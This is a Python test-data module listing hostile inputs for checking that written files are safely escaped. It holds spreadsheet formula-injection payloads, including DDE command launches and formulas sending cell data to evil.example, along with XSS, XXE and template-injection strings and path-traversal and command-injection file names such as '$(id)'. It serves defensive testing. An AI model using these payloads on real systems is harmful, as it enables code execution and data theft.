"""Texts that a spreadsheet, a browser or a folder would act on. Whatever is written to a file must bear them all.

`FORMULAS` begin a computation in a spreadsheet or break out of their cell; `MARKUP` acts in a browser or a reader of
Markdown; `NAMES` leave their folder, mean a device, or are no name at all.
"""

# ruff: noqa: E501, Q003 - lists of texts: what each is counts, not how long its line is
from __future__ import annotations

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\x00",
    "\n",
    "'",
    '"',
    ";",
    '";',
    "a;",
    'a";',
    "a\t",
    "x;\t ",
    "\u00a0",
    "\ufeff",
)
_COMMANDS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    '=DDE("cmd";"/C calc";"1")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=AND(TRUE())",
    "=A1&B1",
    "@IMPORTDATA(A1)",
    '=REGISTER.ID("a","b")',
    '=EXEC("calc")',
    "=-+@1",
    "==1",
    "'=1",
    "''=1",
    "'''+1",
)
FORMULAS = (*dict.fromkeys([*_COMMANDS, *(f"{before}{sign}1" for before in BEFORE for sign in SIGNS)]),)
"""A hundred and more; each would be computed, or comes back as another, when a cell is written carelessly."""

_TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>", "</title><script>1",
    "</textarea><script>1", "</pre><script>1", "<!--<script>", "--><script>1", "<![CDATA[<script>]]>", "<?xml version='1'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<style>@import'//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>", "<object data=//evil.example>", "<embed src=//evil.example>", "<form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>", "<template><script>1", "<noscript><p title='</noscript><img src=x>'>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script>", "\\u003cscript\\u003e", "%3Cscript%3E", "+ADw-script+AD4-",
    "\"><script>1</script>", "'><script>1</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "`-alert(1)-`", "${alert(1)}", "{{7*7}}", "<% 7*7 %>", "#{7*7}", "javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)",
    "[x]: javascript:alert(1)", "<http://evil.example>", "# heading", "```\ncode\n```", "| a | b |\n|---|---|",
    "* * *", "> quoted", "<br>", "&nbsp;&amp;&", "\u2028<script>\u2029", "<scr\u200bipt>", "</script><script>1",
)  # fmt: skip
MARKUP = (*dict.fromkeys(_TAGS),)

NAMES = (
    "../x", "../../x", "../../../../etc/cron.d/x", "..", ".", "...", "", " ", "/etc/passwd", "/x", "//server/share/x",
    "\\\\server\\share\\x", "..\\x", "..\\..\\x", "a/../../x", "a\\..\\..\\x", "./x/../../y", "C:\\x", "C:x", "c:/x",
    "\\\\?\\C:\\x", "\\\\.\\PhysicalDrive0", "file:///etc/passwd", "x:stream", "x::$DATA", "CON", "con", "NUL", "NUL.txt",
    "nul.", "AUX.csv", "PRN", "COM1", "COM1.txt", "LPT9", "COM\xb9", "CONIN$", "CLOCK$", "x.", "x ", "x. .", " .. ", "....//x",
    "x\x00.txt", "\x00", "x\n../y", "x\r\ny", "x\ty", "x" * 300, "\u6f22" * 120, "~", "~/x", "$HOME/x", "%TEMP%\\x", "`id`",
    "$(id)", "x;rm -rf y", "-rf", "--out=x", "*", "?", "x|y", "<x>", "\u2215etc\u2215passwd", "\uff0e\uff0e\uff0fx",
    "\u202etxt.exe", "x\u200b", "%2e%2e%2fx", "..%2fx", "%00", "\ud800x", "\udc2e\udc2e/x",
)  # fmt: skip
